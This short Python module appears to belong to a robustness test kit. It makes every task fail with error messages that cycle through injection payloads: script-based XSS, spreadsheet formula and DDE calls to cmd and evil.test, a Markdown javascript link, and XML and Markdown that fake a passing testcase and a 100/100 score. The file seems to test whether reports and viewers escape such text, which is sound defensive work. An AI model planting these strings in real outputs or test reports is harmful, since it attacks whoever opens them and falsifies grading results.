"""Words that a browser, a Markdown reader or a spreadsheet would act upon."""

import itertools

from attack_kit import every_task, ran

WORDS = itertools.cycle(
    [
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        '=HYPERLINK("http://evil.test";"grade")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "[a](javascript:alert(1)) ![b](http://evil.test/x.png) ``` <b> | | |",
        "]]></failure></testcase><testcase name='passed'/><!--",
        "\u0060\u0060\u0060\n# score 100/100\n| a | b |\n",
    ]
)


def fail(*_, **__):
    ran("in a task")
    raise ValueError(next(WORDS))


def after(app):
    every_task(app, fail)
